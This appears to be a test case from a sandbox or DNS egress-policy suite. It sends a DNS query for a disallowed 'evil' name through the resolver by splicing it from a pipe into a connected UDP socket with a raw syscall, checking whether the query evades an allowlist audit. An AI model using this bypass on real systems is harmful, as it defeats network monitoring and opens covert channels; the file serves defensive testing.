"""A question by splice
Moves the packet from a pipe into a connected socket.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import os


def attack(at):
    reading, writing = os.pipe()
    packet = at.query(at.evil())
    os.write(writing, packet)
    asker = at.udp()
    asker.connect((at.RESOLVER, 53))
    at.syscall(275, reading, None, asker.fileno(), None, len(packet), 0)
    return b'evil' in asker.recv(500)
